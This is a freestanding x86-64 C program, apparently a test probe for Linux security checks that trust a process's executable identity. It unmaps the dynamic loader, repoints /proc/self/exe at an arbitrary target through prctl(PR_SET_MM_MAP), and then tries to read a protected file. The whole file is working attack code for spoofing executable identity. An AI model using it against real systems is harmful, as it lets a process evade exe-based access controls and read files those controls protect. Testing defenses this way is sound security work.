/* exespoof TARGET FILE, run as "ld.so exespoof TARGET FILE": the attack
 * on executable identity through prctl(PR_SET_MM, PR_SET_MM_MAP) with
 * exe_fd. The kernel lets a process with CAP_CHECKPOINT_RESTORE or
 * CAP_SYS_ADMIN in its own user namespace (root, or any user after
 * "unshare -Ur") point /proc/PID/exe at another file once its executable
 * is no longer mapped. Started through the dynamic loader, the
 * process's executable is the loader, which this program (needing no
 * library) unmaps. It then points /proc/self/exe at TARGET, prints
 * "exe=PATH" as /proc/self/exe now reads, and reads FILE: it prints its
 * first line (exit 0), or "denied: REASON" (exit 1); 2 means the attack
 * itself could not be made.
 *
 * No C library: build with -nostdlib -ffreestanding -fno-builtin
 * -fno-stack-protector -fPIE -pie -Wl,-z,now. x86-64 only. */
#if !defined(__x86_64__)
#error "exespoof is written for x86-64"
#endif

#include <asm/unistd.h>
#include <linux/prctl.h>

#define O_RDONLY 0
#define EPERM 1
#define EACCES 13

static long sys5(long n, long a, long b, long c, long d, long e)
{
	long r;
	register long r10 __asm__("r10") = d;
	register long r8 __asm__("r8") = e;
	__asm__ volatile("syscall"
			 : "=a"(r)
			 : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
			 : "rcx", "r11", "memory");
	return r;
}

static long sys3(long n, long a, long b, long c) { return sys5(n, a, b, c, 0, 0); }

static unsigned long len(const char *s)
{
	unsigned long n = 0;
	while (s[n])
		n++;
	return n;
}

static void say(const char *s) { sys3(__NR_write, 1, (long)s, (long)len(s)); }

static void say_num(long v)
{
	char b[24];
	int i = sizeof(b) - 1;
	b[i] = 0;
	if (v < 0)
		v = -v;
	do {
		b[--i] = '0' + v % 10;
		v /= 10;
	} while (v && i > 0);
	say(b + i);
}

static __attribute__((noreturn)) void leave(int code)
{
	for (;;)
		sys3(__NR_exit_group, code, 0, 0);
}

static __attribute__((noreturn)) void fail(const char *what, long err)
{
	say(what);
	say(": errno ");
	say_num(err);
	say("\n");
	leave(2);
}

static int same(const char *a, const char *b, unsigned long n)
{
	for (unsigned long i = 0; i < n; i++)
		if (a[i] != b[i])
			return 0;
	return 1;
}

static unsigned long hex(const char **p)
{
	unsigned long v = 0;
	for (;; (*p)++) {
		char c = **p;
		if (c >= '0' && c <= '9')
			v = v * 16 + (c - '0');
		else if (c >= 'a' && c <= 'f')
			v = v * 16 + (c - 'a' + 10);
		else
			return v;
	}
}

static char maps[1 << 16];
static char stat[4096];
static char exe[4096];
static char buf[256];

/* unmap_exe unmaps every mapping of the file /proc/self/exe names. */
static void unmap_exe(void)
{
	long n = sys3(__NR_readlink, (long)"/proc/self/exe", (long)exe, sizeof(exe) - 1);
	if (n <= 0)
		fail("readlink /proc/self/exe", n);
	exe[n] = 0;
	unsigned long exelen = n;
	long fd = sys3(__NR_open, (long)"/proc/self/maps", O_RDONLY, 0);
	if (fd < 0)
		fail("open /proc/self/maps", fd);
	long got = 0;
	while (got < (long)sizeof(maps) - 1) {
		long r = sys3(__NR_read, fd, (long)maps + got, sizeof(maps) - 1 - got);
		if (r < 0)
			fail("read /proc/self/maps", r);
		if (r == 0)
			break;
		got += r;
	}
	maps[got] = 0;
	sys3(__NR_close, fd, 0, 0);
	int unmapped = 0;
	for (const char *line = maps; *line;) {
		const char *end = line;
		while (*end && *end != '\n')
			end++;
		const char *p = line;
		unsigned long start = hex(&p);
		p++; /* '-' */
		unsigned long stop = hex(&p);
		const char *path = line;
		while (path < end && *path != '/')
			path++;
		if ((unsigned long)(end - path) == exelen && same(path, exe, exelen)) {
			long r = sys3(__NR_munmap, start, stop - start, 0);
			if (r < 0)
				fail("munmap the loader", r);
			unmapped++;
		}
		line = *end ? end + 1 : end;
	}
	if (!unmapped)
		fail("no mapping of the executable found", 0);
}

/* set_exe points /proc/self/exe at fd with PR_SET_MM_MAP, which wants
 * every other field of the memory map as well: they are given as they
 * are, from /proc/self/stat. */
static void set_exe(long fd)
{
	long sfd = sys3(__NR_open, (long)"/proc/self/stat", O_RDONLY, 0);
	if (sfd < 0)
		fail("open /proc/self/stat", sfd);
	long n = sys3(__NR_read, sfd, (long)stat, sizeof(stat) - 1);
	if (n <= 0)
		fail("read /proc/self/stat", n);
	stat[n] = 0;
	sys3(__NR_close, sfd, 0, 0);
	/* Fields after the command's closing parenthesis, from field 3. */
	const char *p = stat + n;
	while (p > stat && *p != ')')
		p--;
	unsigned long f[53] = {0};
	int field = 2;
	for (p++; *p && field < 52;) {
		while (*p == ' ')
			p++;
		field++;
		unsigned long v = 0;
		for (; *p >= '0' && *p <= '9'; p++)
			v = v * 10 + (*p - '0');
		while (*p && *p != ' ' && *p != '\n')
			p++;
		f[field] = v;
	}
	if (field < 51)
		fail("short /proc/self/stat", field);
	struct prctl_mm_map m;
	m.start_code = f[26];
	m.end_code = f[27];
	m.start_stack = f[28];
	m.start_data = f[45];
	m.end_data = f[46];
	m.start_brk = f[47];
	m.brk = sys3(__NR_brk, 0, 0, 0);
	m.arg_start = f[48];
	m.arg_end = f[49];
	m.env_start = f[50];
	m.env_end = f[51];
	m.auxv = 0;
	m.auxv_size = 0;
	m.exe_fd = fd;
	long r = sys5(__NR_prctl, PR_SET_MM, PR_SET_MM_MAP, (long)&m, sizeof(m), 0);
	if (r < 0)
		fail("prctl(PR_SET_MM_MAP)", r);
}

__attribute__((used)) void start_c(long *sp)
{
	long argc = sp[0];
	char **argv = (char **)(sp + 1);
	if (argc < 3) {
		say("usage: ld.so exespoof TARGET FILE\n");
		leave(2);
	}
	unmap_exe();
	long fd = sys3(__NR_open, (long)argv[1], O_RDONLY, 0);
	if (fd < 0)
		fail("open the target", fd);
	set_exe(fd);
	sys3(__NR_close, fd, 0, 0);
	long n = sys3(__NR_readlink, (long)"/proc/self/exe", (long)exe, sizeof(exe) - 1);
	if (n <= 0)
		fail("readlink /proc/self/exe after prctl", n);
	exe[n] = 0;
	say("exe=");
	say(exe);
	say("\n");
	fd = sys3(__NR_open, (long)argv[2], O_RDONLY, 0);
	if (fd < 0) {
		say(fd == -EPERM ? "denied: Operation not permitted\n" : fd == -EACCES ? "denied: Permission denied\n" : "denied: other error\n");
		leave(1);
	}
	n = sys3(__NR_read, fd, (long)buf, sizeof(buf) - 1);
	if (n < 0) {
		say(n == -EPERM ? "denied: Operation not permitted\n" : "denied: read failed\n");
		leave(1);
	}
	buf[n] = 0;
	say("read: ");
	say(buf);
	leave(0);
}

/* The entry point: the loader jumps here with the stack holding argc and
 * argv. */
__attribute__((naked, noreturn)) void _start(void)
{
	__asm__("mov %rsp, %rdi\n\t"
		"and $-16, %rsp\n\t"
		"call start_c\n\t"
		"hlt");
}
